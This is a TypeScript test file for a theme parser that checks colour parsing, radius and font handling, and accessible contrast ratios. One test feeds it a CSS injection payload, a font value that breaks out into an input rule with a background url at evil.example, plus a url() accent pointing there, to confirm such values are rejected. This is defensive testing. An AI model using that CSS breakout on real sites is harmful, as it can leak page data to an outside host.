import { expect } from '@open-wc/testing';
import fc from 'fast-check';

import { contrast, findFont, findRadius, parseTheme, type Rgb, standOut } from './theme.ts';

const WHITE: Rgb = [1, 1, 1];
const BLACK: Rgb = [0, 0, 0];
const DARK: Rgb = [0.082, 0.098, 0.11];

describe('theme', () => {
  let probe: HTMLElement;
  beforeEach(() => {
    probe = document.createElement('div');
    document.body.append(probe);
  });
  afterEach(() => probe.remove());

  it('takes a colour in any notation, a length and font names', () => {
    expect(parseTheme({ accent: '#0b6b4f', radius: '0.5rem', font: "'Open Sans', Arial" }, probe)).to.deep.equal({
      '--theme-fill': 'rgb(11 107 79)',
      '--theme-on-fill': '#fff',
      '--theme-line': 'rgb(11 107 79)',
      '--theme-line-dark': 'rgb(23 114 88)',
      '--theme-radius': '8px',
      '--theme-font': "'Open Sans', Arial",
    });
    for (const accent of ['rebeccapurple', 'rgb(102 51 153)', 'hsl(270deg 50% 40%)']) {
      expect(parseTheme({ accent }, probe)['--theme-fill']).to.equal('rgb(102 51 153)');
    }
  });

  it('drops whatever else a page sends (T22)', () => {
    const font = 'x;} input{background:url(https://evil.example/?';
    expect(parseTheme({ accent: 'url(https://evil.example/)', radius: 'calc(1px)', font }, probe)).to.deep.equal({});
    for (const accent of ['var(--x)', 'inherit', 'transparent', '#0b6b4f80', 'red;', '', 'x'.repeat(10_000), 7, null]) {
      expect(parseTheme({ accent }, probe), String(accent)).to.deep.equal({});
    }
    expect([' ', 'a,,b', 'a"b', 'url(x)', 'a\\62', '-'.repeat(201), undefined].map(findFont)).to.deep.equal(Array(7).fill(undefined));
    expect(['-1px', '1e3px', '1', 'x', '', null].map(findRadius)).to.deep.equal(Array(6).fill(undefined));
    expect(findRadius('900px')).to.equal(24);
    expect(findRadius('0')).to.equal(0);
  });

  it('fills with any colour as it is, with text on it that can be read, and shades lines until they stand out on both palettes', () => {
    const byte = fc.nat(255);
    fc.assert(
      fc.property(fc.tuple(byte, byte, byte), (bytes) => {
        const theme = parseTheme({ accent: `rgb(${bytes.join(' ')})` }, probe);

        expect(theme['--theme-fill']).to.equal(`rgb(${bytes.join(' ')})`);
        expect(contrast(rgb(bytes), theme['--theme-on-fill'] === '#fff' ? WHITE : BLACK)).to.be.at.least(4.5);
        expect(contrast(rgbOf(theme['--theme-line']!), WHITE)).to.be.at.least(2.9);
        expect(contrast(rgbOf(theme['--theme-line-dark']!), DARK)).to.be.at.least(2.9);
      }),
    );
  });

  it('stands out by 3 : 1 to the last digit', () => {
    const part = fc.double({ min: 0, max: 1, noNaN: true });
    fc.assert(
      fc.property(fc.tuple(part, part, part), fc.constantFrom(WHITE, DARK), (colour, surface) => {
        expect(contrast(standOut(colour, surface), surface)).to.be.at.least(3);
      }),
    );
  });
});

function rgb(bytes: readonly number[]): Rgb {
  return bytes.map((byte) => byte / 255) as unknown as Rgb;
}

function rgbOf(css: string): Rgb {
  return rgb(css.match(/\d+/g)!.map(Number));
}
